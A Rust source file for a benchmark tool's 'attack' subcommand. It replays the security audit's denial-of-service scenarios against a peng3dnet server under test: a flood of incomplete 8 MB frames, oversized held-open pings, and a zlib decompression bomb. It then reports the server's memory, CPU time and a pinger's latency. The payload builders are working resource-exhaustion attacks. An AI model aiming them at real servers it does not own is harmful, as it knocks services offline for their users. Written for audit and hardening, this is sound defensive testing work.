//! `peng3dnet-bench attack`: the memory and CPU attacks of the security audit, run
//! against a server in another process, printing the server's resident memory and CPU
//! time (from /proc/PID) before and after, and a well-behaved pinger's latency meanwhile.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use clap::{Args, ValueEnum};
use peng3dnet::config::{Compression, FrameLimits};
use peng3dnet::frame::{Frame, FrameCodec};
use peng3dnet::ping::{ping_server, PingOptions};
use peng3dnet::protocol::{ids, settype_frame};
use peng3dnet::value::{self, map, Value};
use peng3dnet::ConnType;
use peng3dnet_cli::Exit;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::{timeout, Instant};

/// Which attack.
#[derive(Debug, Clone, Copy, ValueEnum)]
pub(crate) enum Scenario {
    /// Connections that each send the 10-byte header of an 8,000,000-byte frame and then
    /// its body, never completing it, never sending a hello (the memory-exhaustion flood).
    Flood,
    /// Connections that each send one valid 8 MB ping and stay open (audit item 1).
    BigPings,
    /// Frames before settype of about 8 KB compressed that inflate to 8 MB (audit item 2).
    Zlib,
}

/// `attack` arguments.
#[derive(Debug, Args)]
pub(crate) struct AttackArgs {
    /// The server under attack.
    addr: SocketAddr,
    /// Its process id, to read its memory and CPU time.
    #[arg(long)]
    server_pid: u32,
    /// The attack.
    #[arg(long, value_enum)]
    scenario: Scenario,
    /// Attacking connections (frames, for `zlib`).
    #[arg(short = 'n', long, default_value_t = 2000)]
    count: usize,
    /// Bytes of body each `flood` connection sends after the header.
    #[arg(long, default_value_t = 1_000_000)]
    body: usize,
}

/// Resident memory and CPU time of a process.
fn sample(pid: u32) -> Option<(u64, Duration)> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let kib: u64 = status
        .lines()
        .find(|l| l.starts_with("VmRSS:"))?
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()?;
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    // Fields after the command name (which may hold spaces): utime and stime are the
    // 14th and 15th fields overall, the 12th and 13th after ") ".
    let rest = &stat[stat.rfind(')')? + 2..];
    let fields: Vec<&str> = rest.split_whitespace().collect();
    let ticks: u64 = fields.get(11)?.parse::<u64>().ok()? + fields.get(12)?.parse::<u64>().ok()?;
    Some((kib * 1024, Duration::from_secs_f64(ticks as f64 / CLK_TCK)))
}

/// Clock ticks per second of /proc/PID/stat (`getconf CLK_TCK`): 100 on Linux.
const CLK_TCK: f64 = 100.0;

fn frame_bytes(frame: Frame, compressed: bool) -> Vec<u8> {
    let codec = FrameCodec::new(
        FrameLimits::default(),
        Compression {
            enabled: compressed,
            threshold: 0,
            level: 9,
        },
    );
    codec
        .to_bytes(frame)
        .map(|b| b.to_vec())
        .unwrap_or_default()
}

/// msgpack bin32 of `n` zero bytes.
fn zero_bin(n: usize) -> Vec<u8> {
    let mut body = vec![0xc6];
    body.extend_from_slice(&(n as u32).to_be_bytes());
    body.resize(5 + n, 0);
    body
}

/// What each attacking connection sends.
fn payload(scenario: Scenario, body: usize) -> Vec<u8> {
    match scenario {
        Scenario::Flood => {
            let mut w = 8_000_000u32.to_be_bytes().to_vec();
            w.extend_from_slice(&64u32.to_be_bytes());
            w.extend_from_slice(&0u16.to_be_bytes());
            w.resize(w.len() + body, 0);
            w
        }
        Scenario::BigPings => {
            let mut w = frame_bytes(settype_frame(&ConnType::Ping), false);
            let ping = map([
                ("time", Value::F64(1.0)),
                ("blob", Value::Binary(vec![0; 7_999_900])),
            ]);
            w.extend(frame_bytes(
                Frame::new(ids::PING, value::encode(&ping)),
                false,
            ));
            w
        }
        Scenario::Zlib => frame_bytes(Frame::new(ids::SETTYPE, zero_bin(8_000_000)), true),
    }
}

/// Pings one after another until stopped; returns the round trips and the failures.
fn pinger(
    addr: SocketAddr,
    stop: Arc<tokio::sync::Notify>,
) -> tokio::task::JoinHandle<(Vec<Duration>, usize)> {
    tokio::spawn(async move {
        let options = PingOptions {
            timeout: Duration::from_secs(5),
            ..PingOptions::default()
        };
        let (mut rtts, mut failed) = (Vec::new(), 0);
        let stopped = stop.notified();
        tokio::pin!(stopped);
        let mut pace = tokio::time::interval(Duration::from_millis(10));
        loop {
            tokio::select! {
                _ = &mut stopped => return (rtts, failed),
                _ = pace.tick() => {}
            }
            let started = Instant::now();
            match ping_server(&addr.to_string(), &options).await {
                Ok(_) => rtts.push(started.elapsed()),
                Err(_) => failed += 1,
            }
        }
    })
}

fn percentile(sorted: &[Duration], p: usize) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    sorted[(sorted.len() * p).div_ceil(100).max(1) - 1]
}

/// `peng3dnet-bench attack`.
pub(crate) async fn run(args: AttackArgs) -> Exit {
    let Some((rss0, cpu0)) = sample(args.server_pid) else {
        peng3dnet_cli::error(format!("cannot read /proc/{}", args.server_pid));
        return Exit::Usage;
    };
    let wire = Arc::new(payload(args.scenario, args.body));
    let stop = Arc::new(tokio::sync::Notify::new());
    let canary = pinger(args.addr, stop.clone());
    let started = Instant::now();
    let in_flight = Arc::new(Semaphore::new(50));
    let done = Arc::new(Semaphore::new(0));
    let mut held = JoinSet::new();
    for _ in 0..args.count {
        let Ok(permit) = in_flight.clone().acquire_owned().await else {
            break;
        };
        let (wire, done, addr) = (wire.clone(), done.clone(), args.addr);
        held.spawn(async move {
            let stream = match timeout(Duration::from_secs(10), TcpStream::connect(addr)).await {
                Ok(Ok(mut stream)) => {
                    let _ = timeout(Duration::from_secs(10), stream.write_all(&wire)).await;
                    Some(stream)
                }
                _ => None,
            };
            drop(permit);
            done.add_permits(1);
            // Held open until the figures are taken.
            std::future::pending::<()>().await;
            drop(stream);
        });
    }
    let _ = done.acquire_many(args.count as u32).await;
    let sent = started.elapsed();
    // Let the server finish what it was given (inflating, refusing) before sampling.
    tokio::time::sleep(Duration::from_secs(1)).await;
    let (rss1, cpu1) = sample(args.server_pid).unwrap_or((rss0, cpu0));
    stop.notify_one();
    let (mut rtts, failed) = canary.await.unwrap_or_default();
    held.abort_all();
    rtts.sort();
    println!(
        "scenario {:?}: {} connections sent {} bytes each in {:.2} s",
        args.scenario,
        args.count,
        wire.len(),
        sent.as_secs_f64()
    );
    println!(
        "server RSS {:.1} MiB -> {:.1} MiB (+{:.1} MiB), CPU time +{:.3} s",
        rss0 as f64 / 1048576.0,
        rss1 as f64 / 1048576.0,
        rss1.saturating_sub(rss0) as f64 / 1048576.0,
        cpu1.saturating_sub(cpu0).as_secs_f64()
    );
    println!(
        "pinger: {} pings, {} failed, p50 {:.2} ms, p99 {:.2} ms, max {:.2} ms",
        rtts.len(),
        failed,
        percentile(&rtts, 50).as_secs_f64() * 1e3,
        percentile(&rtts, 99).as_secs_f64() * 1e3,
        rtts.last().copied().unwrap_or_default().as_secs_f64() * 1e3
    );
    Exit::Ok
}
